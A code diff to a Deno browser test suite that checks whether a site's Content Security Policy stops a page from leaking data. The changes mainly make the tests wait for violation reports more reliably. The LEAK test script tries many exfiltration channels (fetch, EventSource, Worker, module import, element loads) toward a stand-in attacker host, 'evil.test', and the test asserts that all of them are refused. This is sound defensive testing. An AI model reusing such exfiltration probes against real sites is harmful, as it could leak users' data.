@@ -17,7 +17,7 @@ const PROBE = (nonce: string) =>
 </script>`;
 
 /** A page of ours that was talked into telling somebody else what it knows, in every way. */
-const LEAK = `async (evil) => {
+const LEAK = `async ([evil, directives]) => {
   const refused = [];
   addEventListener("securitypolicyviolation", (e) => refused.push(e.effectiveDirective));
   const element = (name, attributes) => {
@@ -44,7 +44,11 @@ const LEAK = `async (evil) => {
   try { new EventSource(evil + "/events"); } catch {}
   try { new Worker(evil + "/worker"); } catch {}
   await import(evil + "/module").catch(() => {});
-  await new Promise((resolve) => setTimeout(resolve, 300));
+  // What is refused is told when the browser comes to it; what is not might be asked for yet.
+  const rest = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
+  const isToldOfAll = () => directives.every((directive) => refused.includes(directive));
+  for (let tries = 0; !isToldOfAll() && tries < 400; tries++) await rest(25);
+  await rest(300);
   return { refused: [...new Set(refused)], base: document.baseURI };
 }`;
 
@@ -124,28 +128,30 @@ Deno.test("a browser keeps the rules: cookie, content policy, other origins, reb
   });
 
   await t.step("8. only the scripts that the server named run, without eval", async () => {
+    await page.waitForFunction(`ran.some((entry) => entry.startsWith("refused script-src"))`);
     const ran = await page.evaluate(() => (globalThis as unknown as { ran: string[] }).ran);
     assert.ok(ran.includes("named script") && ran.includes("no eval"), ran.join());
     for (const never of ["nameless script", "script of another name", "handler", "eval"]) {
       assert.ok(!ran.includes(never), never);
     }
-    assert.ok(ran.some((entry) => entry.startsWith("refused script-src")), ran.join());
   });
 
   await t.step("8. a page of ours can tell nobody else anything", async () => {
     const leaking = await context.newPage();
     await leaking.goto(`http://127.0.0.1:${port}/`);
     const site = `http://evil.test:${evil.addr.port}`;
-    const { refused, base } = await leaking.evaluate(`(${LEAK})("${site}")`) as {
+    const directives = ["connect-src", "img-src", "style-src-elem", "script-src-elem"]
+      .concat("frame-src", "media-src", "font-src", "form-action", "object-src", "base-uri");
+    const question = JSON.stringify([site, directives]);
+    const { refused, base } = await leaking.evaluate(`(${LEAK})(${question})`) as {
       refused: string[];
       base: string;
     };
     assert.deepEqual(asked, []);
     assert.equal(base, `http://127.0.0.1:${port}/`);
-    for (
-      const directive of ["connect-src", "img-src", "style-src-elem", "script-src-elem"]
-        .concat("frame-src", "media-src", "font-src", "form-action", "object-src", "base-uri")
-    ) assert.ok(refused.includes(directive), `${directive} is not among ${refused}`);
+    for (const directive of directives) {
+      assert.ok(refused.includes(directive), `${directive} is not among ${refused}`);
+    }
     // A link that the user follows does not say where it was.
     await leaking.evaluate(`location.href = "${site}/link"`);
     await leaking.waitForURL(`${site}/link`);
